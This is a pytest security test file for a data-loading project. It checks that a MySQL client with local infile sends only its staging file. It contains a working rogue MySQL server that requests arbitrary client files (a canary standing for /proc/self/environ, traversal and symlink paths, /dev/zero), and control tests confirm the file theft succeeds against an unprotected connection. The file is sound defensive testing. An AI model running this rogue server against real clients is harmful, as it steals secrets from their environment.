"""A rogue flow server must get nothing but the staging file (issue 11, "Local infile sends only the staging file").

LOAD DATA LOCAL INFILE lets the *server* name the file the client sends: a compromised or impersonated
server can answer the stage's LOAD, or any other query, with a request for /proc/self/environ (which
holds the keyring) and a client with local infile enabled for every path sends it. A fake MySQL server
on 127.0.0.1 (handshake v10, mysql_native_password, OK packets, and a LOCAL INFILE request, 0xFB +
file name, as the answer to chosen queries) records every byte the client sends back.

The protected client is driven through the project's own code path: ``db.connect(..., local_infile=True)``
with the project's connection options, and ``load.load_rows`` with the stage's LOAD statement. The
control tests open the same connection the way the stage did before (``MySqlHook(local_infile=True)``)
and show that the same server then does receive the canary: the fake server's attack is real.
"""

from __future__ import annotations

import os
import re
import secrets
import socket
import struct
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from leads_flow.io import load
from leads_flow.io.connect import connect
from leads_flow.io.retry import PermanentDbError, classify
from leads_flow.io.sql import render
from leads_flow.rules.fields import STAGE_COLUMNS

CLIENT_CAPS = 0x0001 | 0x0004 | 0x0008 | 0x0080 | 0x0200 | 0x2000 | 0x8000 | 0x10000 | 0x20000 | 0x80000
# LONG_PASSWORD LONG_FLAG CONNECT_WITH_DB LOCAL_FILES PROTOCOL_41 TRANSACTIONS SECURE_CONNECTION
# MULTI_STATEMENTS MULTI_RESULTS PLUGIN_AUTH (no SSL: the client keeps to plain TCP)
IO_TIMEOUT = 10.0
MAX_CAPTURE = 1 << 20
LOAD_QUERY = re.compile(rb"^LOAD DATA LOCAL INFILE '([^']+)'")


@dataclass
class Request:
    """What the server asked for after one query, and every byte the client sent back for it."""

    query: bytes
    asked: bytes
    sent: bytearray = field(default_factory=bytearray)


@dataclass
class RogueServer:
    """One-connection fake MySQL server; ``answer(query)`` returns a file name to request, or None for OK.

    The thread stops by itself: every socket operation times out after IO_TIMEOUT, and it serves one
    client only.
    """

    answer: Callable[[bytes], bytes | None]
    queries: list[bytes] = field(default_factory=list)
    requests: list[Request] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(1)
        self.sock.settimeout(IO_TIMEOUT)
        self.port = self.sock.getsockname()[1]
        self.thread = threading.Thread(target=self._serve, name="rogue-mysql", daemon=True)
        self.thread.start()

    @property
    def received(self) -> bytes:
        return b"".join(bytes(r.sent) for r in self.requests)

    def stop(self) -> None:
        self.thread.join(IO_TIMEOUT + 5)
        assert not self.thread.is_alive(), "the fake server did not stop"
        self.sock.close()

    # -- protocol ---------------------------------------------------------------------------------
    def _serve(self) -> None:
        try:
            conn, _ = self.sock.accept()
        except OSError as exc:
            self.errors.append(f"accept: {exc}")
            return
        with conn:
            conn.settimeout(IO_TIMEOUT)
            try:
                self._session(conn)
            except (OSError, EOFError) as exc:
                self.errors.append(f"{type(exc).__name__}: {exc}")

    def _session(self, conn: socket.socket) -> None:
        salt = bytes(secrets.choice(range(33, 127)) for _ in range(20))
        hello = (
            bytes([10])
            + b"8.0.99-rogue\0"
            + struct.pack("<I", 7)
            + salt[:8]
            + b"\0"
            + struct.pack("<H", CLIENT_CAPS & 0xFFFF)
            + bytes([45])
            + struct.pack("<H", 2)
            + struct.pack("<H", CLIENT_CAPS >> 16)
            + bytes([21])
            + b"\0" * 10
            + salt[8:]
            + b"\0"
            + b"mysql_native_password\0"
        )
        _send(conn, 0, hello)
        seq, _auth = _recv(conn)  # any password will do
        _send(conn, seq + 1, _ok())
        while True:
            try:
                seq, payload = _recv(conn)
            except EOFError:
                return
            command, body = payload[:1], payload[1:]
            if command == b"\x01":  # COM_QUIT
                return
            if command != b"\x03":  # COM_PING, COM_SET_OPTION, ...: OK
                _send(conn, seq + 1, _ok())
                continue
            self.queries.append(body)
            asked = self.answer(body)
            if asked is None:
                _send(conn, seq + 1, _ok())
                continue
            req = Request(body, asked)
            self.requests.append(req)
            _send(conn, seq + 1, b"\xfb" + asked)
            seq += 1
            while True:  # the file's content in packets, then an empty packet
                seq, chunk = _recv(conn)
                if not chunk:
                    break
                req.sent += chunk
                if len(req.sent) > MAX_CAPTURE:  # e.g. /dev/zero: enough to fail the test, then hang up
                    self.errors.append("the client kept sending; hung up")
                    return
            _send(conn, seq + 1, _ok())


def _ok() -> bytes:
    return b"\x00\x00\x00" + struct.pack("<HH", 2, 0)  # 0 rows, no insert id, autocommit status, 0 warnings


def _send(conn: socket.socket, seq: int, payload: bytes) -> None:
    conn.sendall(struct.pack("<I", len(payload))[:3] + bytes([seq & 0xFF]) + payload)


def _recv_exact(conn: socket.socket, n: int) -> bytes:
    buf = b""
    while len(buf) < n:
        part = conn.recv(n - len(buf))
        if not part:
            raise EOFError("client closed the connection")
        buf += part
    return buf


def _recv(conn: socket.socket) -> tuple[int, bytes]:
    head = _recv_exact(conn, 4)
    length = int.from_bytes(head[:3], "little")
    return head[3], _recv_exact(conn, length)


# -- fixtures ---------------------------------------------------------------------------------------

CONN_ID = "leads_flow_rogue"


@pytest.fixture
def canary(tmp_path: Path) -> tuple[Path, bytes]:
    """A file standing for /proc/self/environ: a random secret nobody but the client can read."""
    secret = b"LEADS_FLOW_KEYRING_CANARY=" + secrets.token_hex(16).encode()
    path = tmp_path / "environ"
    path.write_bytes(secret + b"\n")
    path.chmod(0o600)
    return path, secret


@pytest.fixture
def rogue(monkeypatch) -> Iterator[Callable[[Callable[[bytes], bytes | None]], RogueServer]]:
    """Start a fake server with a given answer function; it is pointed to by the connection CONN_ID."""
    servers: list[RogueServer] = []

    def start(answer: Callable[[bytes], bytes | None]) -> RogueServer:
        server = RogueServer(answer)
        servers.append(server)
        password = secrets.token_hex(8)
        monkeypatch.setenv(
            f"AIRFLOW_CONN_{CONN_ID.upper()}", f"mysql://leads_flow:{password}@127.0.0.1:{server.port}/leads_flow"
        )
        return server

    yield start
    for server in servers:
        server.stop()


def _rows(n: int = 3) -> list[tuple]:
    """Mapped rows as the stage loads them (no phone at all: the column values are generated tokens)."""
    return [tuple(f"v{i}_{j}" for j in range(len(STAGE_COLUMNS))) for i in range(n)]


def _unprotected_connection():
    """The connection as the stage opened it before this fix: local infile for any path."""
    from airflow.providers.mysql.hooks.mysql import MySqlHook

    return MySqlHook(mysql_conn_id=CONN_ID, local_infile=True).get_conn()


def _load_statement(path: str) -> str:
    """The stage's LOAD statement, rendered the way load_rows renders it."""
    [sql] = render("mysql", "stage_load", stage="leads_flow_stage_0123456789abcdef", columns=", ".join(STAGE_COLUMNS))
    return sql


# -- controls: without the protection the fake server gets the secret --------------------------------


def test_control_unprotected_client_sends_the_file_the_server_names_after_the_load(rogue, canary, tmp_path):
    path, secret = canary
    server = rogue(lambda q: os.fsencode(path) if q.startswith(b"LOAD DATA LOCAL INFILE") else None)
    staging = tmp_path / "staging.tsv"
    staging.write_text("a\tb\n")
    conn = _unprotected_connection()
    try:
        cur = conn.cursor()
        cur.execute(_load_statement(str(staging)), {"path": str(staging)})
        cur.close()
    finally:
        conn.close()
    assert secret in server.received, "the control failed: the fake server's attack does not work"


def test_control_unprotected_client_sends_a_file_in_answer_to_any_query(rogue, canary):
    path, secret = canary
    server = rogue(lambda q: os.fsencode(path) if q.startswith(b"SELECT 1") else None)
    conn = _unprotected_connection()
    try:
        cur = conn.cursor()
        cur.execute("SELECT 1")
        cur.close()
    finally:
        conn.close()
    assert secret in server.received, "the control failed: the fake server's attack does not work"


# -- the project's code path ------------------------------------------------------------------------


def test_an_honest_server_gets_the_staging_file_and_only_it(rogue):
    server = rogue(lambda q: m.group(1) if (m := LOAD_QUERY.match(q)) else None)
    flow = connect(CONN_ID, local_infile=True)
    try:
        rows = _rows()
        load.load_rows(flow, "leads_flow_stage_0123456789abcdef", rows)
    finally:
        flow.close()
    [req] = server.requests
    assert req.query.startswith(b"LOAD DATA LOCAL INFILE '")
    assert req.sent == ("\n".join("\t".join(r) for r in rows) + "\n").encode()
    assert not os.path.exists(os.fsdecode(req.asked)), "the staging file outlived the load"


@pytest.mark.parametrize("target", ["canary", "traversal", "symlink_in_staging_dir", "dev_zero"])
def test_a_rogue_answer_to_the_load_gets_nothing(rogue, canary, tmp_path, target):
    path, secret = canary

    def evil(query: bytes) -> bytes | None:
        m = LOAD_QUERY.match(query)
        if not m:
            return None
        staging = os.fsdecode(m.group(1))
        if target == "canary":
            return os.fsencode(path)
        if target == "traversal":  # the staging file's directory, then up to the secret
            return os.fsencode(os.path.join(os.path.dirname(staging), os.path.relpath(path, os.path.dirname(staging))))
        if target == "symlink_in_staging_dir":  # a name next to the staging file that points to the secret
            link = staging + ".link"
            os.symlink(path, link)
            links.append(link)
            return os.fsencode(link)
        return b"/dev/zero"

    links: list[str] = []
    server = rogue(evil)
    flow = connect(CONN_ID, local_infile=True)
    try:
        with pytest.raises(Exception) as err:
            load.load_rows(flow, "leads_flow_stage_0123456789abcdef", _rows())
    finally:
        flow.close()
        for link in links:
            os.unlink(link)
    [req] = server.requests
    assert req.sent == b"", f"the client sent {len(req.sent)} byte(s) to a rogue request"
    assert secret not in server.received
    assert "refused" in str(err.value)
    assert classify(err.value) is PermanentDbError  # a rogue server is no transient fault


@pytest.mark.parametrize("trigger", [b"SET NAMES", b"SET autocommit", b"SET SESSION time_zone"])
def test_a_file_request_while_connecting_gets_nothing(rogue, canary, trigger):
    """Queries before the handler is installed (mysqlclient's own SET NAMES) and after: all refused."""
    path, secret = canary
    server = rogue(lambda q: os.fsencode(path) if q.startswith(trigger) else None)
    with pytest.raises(PermanentDbError, match="forbidden|refused"):
        connect(CONN_ID, local_infile=True)
    assert [r.sent for r in server.requests] == [b""]
    assert secret not in server.received


def test_a_file_request_after_the_load_gets_nothing(rogue, canary):
    """The staging file is armed for its own LOAD only: later requests are refused, by Connector/C's "auto"
    mode after a query that is no LOAD, by the project's handler after a LOAD issued outside load_rows."""
    path, secret = canary

    def answer(query: bytes) -> bytes | None:
        if query.startswith(b"SELECT 2") or query.startswith(b"LOAD DATA LOCAL INFILE '/nowhere'"):
            return os.fsencode(path)
        if m := LOAD_QUERY.match(query):
            return m.group(1)
        return None

    server = rogue(answer)
    flow = connect(CONN_ID, local_infile=True)
    try:
        load.load_rows(flow, "leads_flow_stage_0123456789abcdef", _rows(1))
        cur = flow.conn.cursor()
        with pytest.raises(Exception, match="forbidden"):
            cur.execute("SELECT 2")
        with pytest.raises(Exception, match="refused"):  # a LOAD, but nothing armed
            cur.execute(_load_statement("/nowhere"), {"path": "/nowhere"})
    finally:
        flow.close()
    assert [len(r.sent) > 0 for r in server.requests] == [True, False, False]
    assert secret not in server.received


def test_a_connection_without_local_infile_sends_nothing(rogue, canary):
    """The legacy connection (no local_infile): even an answer to a LOAD is refused."""
    path, secret = canary
    server = rogue(lambda q: os.fsencode(path) if q.startswith(b"LOAD") else None)
    legacy = connect(CONN_ID)
    try:
        cur = legacy.conn.cursor()
        with pytest.raises(Exception, match="forbidden"):
            cur.execute(_load_statement(str(path)), {"path": str(path)})
    finally:
        legacy.close()
    assert [r.sent for r in server.requests] == [b""]
    with pytest.raises(PermanentDbError, match="without local_infile"):
        with legacy.local_infile(str(path)):
            pass
